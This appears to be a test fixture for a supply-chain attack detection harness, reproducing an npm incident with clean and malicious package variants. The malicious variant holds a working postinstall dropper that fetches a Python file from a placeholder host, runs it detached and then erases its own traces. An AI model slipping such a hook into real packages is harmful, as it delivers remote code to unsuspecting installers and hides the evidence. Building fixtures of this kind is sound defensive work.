import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'axios-2026',
  after: 'axios 1.14.1 with plain-crypto-js, March 2026',
  source: 'https://github.com/axios/axios/issues/10636',
  shape: ['install', 'npm ci', 'new dependency', 'temp payload', 'detached python', 'cleans up after itself'],
  patterns: ['privilege_escalation', 'shadow_import', 'data_exfiltration'],
  culprits: ['simple-digest'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: { 'web-fetcher': { 'index.js': 'exports.get = (u) => fetch(u);' } },
  benign: { 'web-fetcher': { 'index.js': 'exports.get = (u, o) => fetch(u, o);' } },
  bad: {
    'web-fetcher': { 'index.js': 'exports.get = (u, o) => fetch(u, o);' },
    'simple-digest': {
      'package.json': '{"scripts":{"postinstall":"node setup.js"}}',
      'index.js': "exports.md5 = (t) => require('crypto').createHash('md5').update(t).digest('hex');",
      'package.md': '{"name":"simple-digest","version":"1.0.0"}',
      'setup.js': `const http = require('http'), fs = require('fs'), os = require('os'), path = require('path'), { exec } = require('child_process');
const at = path.join(os.tmpdir(), 'ld.py');
const q = http.request({ host: '@A@', port: @PORT@, path: '/6202033', method: 'POST' }, (r) => {
  const out = fs.createWriteStream(at);
  r.pipe(out); out.on('finish', () => {
    exec('nohup python3 ' + at + ' http://@A@:@PORT@/6202033 > /dev/null 2>&1 &', () => {
      fs.unlinkSync(__filename); fs.rmSync(path.join(__dirname, 'package.json')); fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
    });
  });
});
q.on('error', () => {}); q.end('packages.npm.org/product1');`,
    },
  },
  serves: { '/6202033': 'print("hello")\n' },
  proof: [{ stub: 'ld.py' }, { arrives: '/6202033' }],
};
